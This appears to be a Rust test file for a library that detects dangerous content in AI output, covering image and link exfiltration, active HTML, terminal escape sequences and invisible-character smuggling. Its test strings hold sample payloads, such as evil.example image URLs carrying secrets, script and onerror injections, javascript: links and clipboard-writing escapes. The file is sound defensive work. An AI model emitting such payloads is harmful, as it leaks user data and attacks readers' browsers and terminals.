use super::*;
use crate::Span;
use proptest::prelude::*;
use std::sync::Arc;

fn detector(name: &str) -> OutputDetector {
    let hosts = AllowedHosts::new(["ok.example", "*.cdn.example"]).unwrap();
    OutputDetector::named(name, &Arc::new(hosts)).unwrap()
}

fn found<'a>(name: &str, text: &'a str) -> Vec<&'a str> {
    let mut spans = Vec::new();
    detector(name).find(text, &mut spans);
    spans.into_iter().map(|span| text.get(span.range()).expect("on boundaries")).collect()
}

/// What is found when the text comes in pieces that end at `cuts`.
fn found_in_pieces(detector: &OutputDetector, text: &str, cuts: &[usize]) -> Vec<Span> {
    let (mut scanner, mut spans, mut start) = (detector.scanner(), Vec::new(), 0);
    let mut ends: Vec<usize> = cuts.iter().copied().filter(|cut| text.is_char_boundary(*cut)).collect();
    ends.push(text.len());
    for (index, end) in ends.iter().enumerate() {
        let mut here = Vec::new();
        let last = index + 1 == ends.len();
        let up_to = scanner.scan(&text[start..*end], last, &mut here);
        spans.extend(here.iter().map(|span| Span::new(span.start + start, span.end + start)));
        start += up_to;
        assert!(!last || start == text.len(), "the end leaves nothing undecided");
    }
    spans
}

#[test]
fn exfiltration_by_an_image_in_any_spelling() {
    for text in [
        "![x](https://evil.example/p.png)",
        "![x](https://evil.example)",
        "![](<https://evil.example/a b>)",
        "![x]( \n https://evil.example/c.gif \"title\")",
        "![a [nested] alt](http://evil.example/?q=secret)",
        "![a [b](https://ok.example/) c](https://evil.example/x)",
        "[![a](https://evil.example/i.png)](https://ok.example/)",
        "[x ![a `]` b](https://evil.example/y)",
        "![a \\] b](https://evil.example/z)",
        "![a \\[](https://evil.example/z)",
        "![x](//evil.example/p)",
        "![x](/\\evil.example/p)",
        "![x](\\\\evil.example/p)",
        "![x](https:\\\\evil.example/p)",
        "![x](https:/evil.example/p)",
        "![x](https:evil.example/p)",
        "![x](HTTPS://EVIL.EXAMPLE/p)",
        "![x](ｈｔｔｐｓ://evil.example/p)",
        "![x](ht\u{200b}tps://evil.example/p)",
        "![x](&#104;ttps://evil.example/p)",
        "![x](https&colon;//evil.example/p)",
        "![x](https://ok.example@evil.example/p)",
        "![x](https://ok.example\\@evil.example/p)",
        "![x](https://ok.example\\.evil.example/p)",
        "![x](https://ok.example.evil.example/p)",
        "![x](https://оk.example/p)",
        "![x](ftp://ok.example/p)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](javascript:alert(1))",
        "![x][1] and\n\n[1]: https://evil.example/p",
        "![1]\n\n[1]:\nhttps://evil.example/p",
        "<img src=https://evil.example/p>",
        "<img\nsrc = 'https://evil.example/p'>",
        "<IMG SRC=\"//evil.example/p\">",
        "<picture><source srcset=\"https://ok.example/a 1x, https://evil.example/p 2x\">",
        "<svg><image href=\"https://evil.example/p\"/></svg>",
        "<div style=\"background:url(https://evil.example/p)\">",
        "url('//evil.example/p')",
        "[a](rel](https://evil.example/?q=1)",
    ] {
        let found = found("markdown-image", text);
        assert_eq!(found.len(), 1, "{text:?}: {found:?}");
        assert!(found[0].contains("vil") || found[0].contains(':') || found[0].contains("VIL"), "{found:?}");
        assert!(!found[0].contains("ok.example/)"), "{found:?}");
    }
}

#[test]
fn images_of_allowed_hosts_and_links_are_no_images() {
    for text in [
        "![x](https://ok.example/p.png)",
        "![x](https://ok.example:8443/p.png?size=3)",
        "![x](http://a.cdn.example/p.png)",
        "![x](/static/p.png) ![x](p.png) ![x](../p.png#a)",
        "[docs](https://other.example/docs)",
        "see [1].\n\n[1]: https://other.example/docs",
        "array[0](x) and `a[i]` (see below) [link](#part)",
        "wow! [docs](https://other.example/docs)",
        "![logo](https://ok.example/l.png) and [docs](https://other.example/docs)",
        "<a href=\"https://other.example/docs\">docs</a>",
        "a < b = https://other.example",
        "",
    ] {
        assert_eq!(found("markdown-image", text), [""; 0], "{text:?}");
    }
}

#[test]
fn exfiltration_by_a_link_that_carries_data() {
    for text in [
        "[click](https://evil.example/?q=my+name+is+bond)",
        "[click](https://evil.example/aGVsbG8gdGhlcmUgZ2VuZXJhbA)",
        "[click](https://evil.example/my%20name%20is%20james%20bond)",
        "[click](https://aGVsbG8gdGhlcmU3.evil.example/)",
        "[click](https://user:secret@evil.example/)",
        "[click](https:\\\\evil.example\\a)",
        "[click](<https://evil.example/my name is bond>)",
        "[click](javascript:fetch(1))",
        "[click](JaVa&Tab;ScRiPt:x)",
        "[click](data:text/html,hi)",
        "[click](file:///etc/passwd)",
        "[click](mailto:a@evil.example?body=secret)",
        "[click](myapp://send?text=secret)",
        "<https://evil.example/?q=1>",
        "see https://evil.example/?q=1.",
        "see www.evil.example/?q=1",
        "[1]: https://evil.example/?q=1",
        "<a href='https://evil.example/?q=1'>x</a>",
        "[https://ok.example](https://evil.example/#d=secret)",
    ] {
        let found = found("markdown-link", text);
        assert_eq!(found.len(), 1, "{text:?}: {found:?}");
        assert!(!found[0].ends_with('.') && !found[0].ends_with(')') || found[0].contains('('), "{found:?}");
    }
}

#[test]
fn honest_links_are_let_be() {
    for text in [
        "[docs](https://other.example/docs/getting-started-with-the-thing.html#install)",
        "https://en.wikipedia.org/wiki/Aspirin",
        "https://www.rust-lang.org/learn.",
        "(see https://doc.rust-lang.org/std/primitive.str.html)",
        "[q](https://ok.example/?q=1) https://ok.example/?q=1",
        "[mail](mailto:us@other.example) [call](tel:112)",
        "[x](#part) [x](?page=2) [x](/a?b=c)",
        "std::vec::Vec and a://b and http and www",
        "`let x = y;` 10:30 note: this",
    ] {
        assert_eq!(found("markdown-link", text), [""; 0], "{text:?}");
    }
}

#[test]
fn html_that_does_something() {
    for (text, tags) in [
        ("<script>alert(1)</script>", vec!["<script>", "</script>"]),
        ("a <SCRIPT src=x> b", vec!["<SCRIPT src=x>"]),
        ("<b onclick=alert(1)>x</b>", vec!["<b onclick=alert(1)>"]),
        ("<x/onpointerenter=\"a>b\">", vec!["<x/onpointerenter=\"a>b\">"]),
        ("<p title=\"a > b\" ONLOAD = x>", vec!["<p title=\"a > b\" ONLOAD = x>"]),
        ("<a href=\" java&#115;cript:x\">", vec!["<a href=\" java&#115;cript:x\">"]),
        ("<img alt=<x onerror=alert(1)>", vec!["<x onerror=alert(1)>"]),
        ("<svg:script>", vec!["<svg:script>"]),
        ("<iframe srcdoc='x'", vec!["<iframe srcdoc='x'"]),
        ("<meta http-equiv=refresh>", vec!["<meta http-equiv=refresh>"]),
        ("<p style=x>", vec!["<p style=x>"]),
    ] {
        assert_eq!(found("html", text), tags, "{text:?}");
        assert_eq!(
            found("html-any", text).first(),
            tags.first().filter(|_| !text.starts_with("<img")).or(Some(&"<img alt="))
        );
    }
    for text in [
        "a < b and c > d",
        "<b>bold</b> <br/> <table class='on'>",
        "1 <2> 3",
        "<-- x",
        "I <3 you",
        "&lt;script&gt;",
    ] {
        assert_eq!(found("html", text), [""; 0], "{text:?}");
    }
    assert_eq!(found("html-any", "<b>x</b><!-- y -->"), ["<b>", "</b>", "<!-- y -->"]);
}

#[test]
fn escaping_leaves_no_tag_and_costs_nothing_where_there_is_none() {
    assert!(matches!(escape_html("plain"), std::borrow::Cow::Borrowed("plain")));
    assert_eq!(escape_html("<a b='c' d=\"e\">&"), "&lt;a b=&#39;c&#39; d=&quot;e&quot;&gt;&amp;");
}

#[test]
fn orders_to_a_terminal() {
    for (text, sequences) in [
        ("\x1b[31mred\x1b[0m", vec!["\x1b[31m", "\x1b[0m"]),
        ("\x1b]0;title\x07x", vec!["\x1b]0;title\x07"]),
        ("\x1b]8;;http://evil\x1b\\link", vec!["\x1b]8;;http://evil\x1b\\"]),
        ("\u{9b}2J", vec!["\u{9b}2J"]),
        ("\u{9d}0;t\u{9c}x", vec!["\u{9d}0;t\u{9c}"]),
        ("\x1bP1$r\x1b\\x", vec!["\x1bP1$r\x1b\\"]),
        ("\x1bcx\x1b(0x", vec!["\x1bc", "\x1b(0"]),
        ("\x1b\x1b[A", vec!["\x1b", "\x1b[A"]),
        ("\x1bé", vec!["\x1b"]),
        ("\x1b[31é", vec!["\x1b[31"]),
        ("\x1b]52;c;AAAA\nnext line", vec!["\x1b]52;c;AAAA"]),
        ("end \x1b", vec!["\x1b"]),
        ("end \x1b[3", vec!["\x1b[3"]),
        ("Â° © é", vec![]),
    ] {
        assert_eq!(found("ansi", text), sequences, "{text:?}");
    }
    assert_eq!(found("control", "a\0b\x08c\x7f\td\r\ne\rf\x1b[m"), ["\0", "\x08", "\x7f", "\r"]);
}

#[test]
fn smuggling_by_what_nobody_sees() {
    for (text, runs) in [
        ("a\u{200b}b", 1),
        ("hi\u{e0068}\u{e0069}", 1),
        ("x\u{fe0f}\u{fe01}\u{fe02}", 1),
        ("😀\u{fe0f}\u{e0101}\u{e0102}", 1),
        ("a\u{200d}b c\u{200c}d", 2),
        ("pay\u{200e}pal", 1),
        ("\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e0078}", 1),
        ("\u{feff}x\u{2064}\u{2063}", 2),
        ("👩\u{200d}👧 ❤\u{fe0f} 1\u{fe0f}\u{20e3} 🏳\u{fe0f}\u{200d}🌈", 0),
        ("\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", 0),
        ("می\u{200c}خواهم क्\u{200d}ष 葛\u{e0100}城 שלום\u{200f} (x)", 0),
        ("plain ä ß 漢字", 0),
    ] {
        assert_eq!(found("invisible", text).len(), runs, "{text:?}");
    }
    assert_eq!(found("bidi", "a\u{202e}b\u{2069}\u{200f}").len(), 2);
}

#[test]
fn every_detector_has_its_name() {
    let names: Vec<_> = OutputDetector::names().collect();
    assert_eq!(names.len(), 9);
    assert!(names.iter().all(|name| detector(name).name() == *name));
    assert!(OutputDetector::named("html ", &Arc::default()).is_none());
}

#[test]
fn downgrade_a_host_that_is_a_whole_domain_or_none_is_not_taken() {
    for wrong in [
        "",
        "*",
        "*.org",
        "Ok.example",
        "ok.example.",
        "ok..example",
        "ok.example/x",
        "*.*.example",
        "öl.example",
        "-a.example",
    ] {
        assert!(AllowedHosts::new([wrong]).is_err(), "{wrong:?}");
    }
}

/// Pieces of what the detectors look for.
fn parts() -> impl Strategy<Value = String> {
    let part = prop::sample::select(vec![
        "![",
        "[",
        "]",
        "](",
        ")",
        "(",
        "]:",
        "<",
        ">",
        "https://evil.example/",
        "http",
        "://",
        "www.",
        "//e",
        "?q=1",
        "ok.example",
        "<img src=",
        "<a href=",
        "\"",
        "'",
        "=",
        " ",
        "\n",
        "\n\n",
        "word",
        "\\",
        "`",
        "url(",
        "&#58;",
        "<script",
        "on",
        "onx=",
        "-->",
        "<!--",
        "\x1b",
        "[31m",
        "]0;",
        "\x07",
        "\u{9b}",
        "\r",
        "\0",
        "é",
        "漢",
        "\u{200b}",
        "\u{200d}",
        "\u{fe0f}",
        "\u{1f3f4}",
        "\u{e0067}\u{e0062}",
        "\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "\u{202e}",
        "😀",
        "data:",
        "javascript:",
        "1",
        ";",
    ]);
    prop::collection::vec(part, 0..24).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]
    #[test]
    fn truncation_however_the_text_is_cut_the_same_is_found(text in parts(), mut cuts in prop::collection::vec(0usize..200, 0..12)) {
        cuts.retain(|cut| *cut <= text.len());
        cuts.sort_unstable();
        let every: Vec<usize> = (0..text.len()).collect();
        for name in OutputDetector::names() {
            let detector = detector(name);
            let whole = found_in_pieces(&detector, &text, &[]);
            prop_assert!(whole.iter().all(|span| text.get(span.range()).is_some_and(|found| !found.is_empty())));
            prop_assert_eq!(&found_in_pieces(&detector, &text, &cuts), &whole, "{} {:?}", name, text);
            prop_assert_eq!(&found_in_pieces(&detector, &text, &every), &whole, "{} {:?}", name, text);
        }
    }

    #[test]
    fn no_text_makes_them_panic(text in any::<String>()) {
        for name in OutputDetector::names() {
            let _ = found(name, &text);
        }
    }
}

#[test]
fn the_shipped_policy_keeps_what_it_promises() {
    let policy = crate::Policy::shipped("output-safety").unwrap();
    let report = policy.run_tests().unwrap();
    assert!(report.failures.is_empty(), "{report:?}");
    let hosts = AllowedHosts::new(["ok.example"]).unwrap();
    let guard = crate::Guard::builder().policy(policy).allow_hosts(hosts).build().unwrap();
    let text = "![a](https://ok.example/a.png) ![b](https://evil.example/b.png)";
    let verdict = guard.check(text, &crate::Ask::output());
    assert_eq!(
        guard.redact(text, &verdict),
        "![a](https://ok.example/a.png) ![b]([REDACTED:image-to-unknown-host])"
    );
    assert!(guard.check(text, &crate::Ask::input()).findings.is_empty());
}
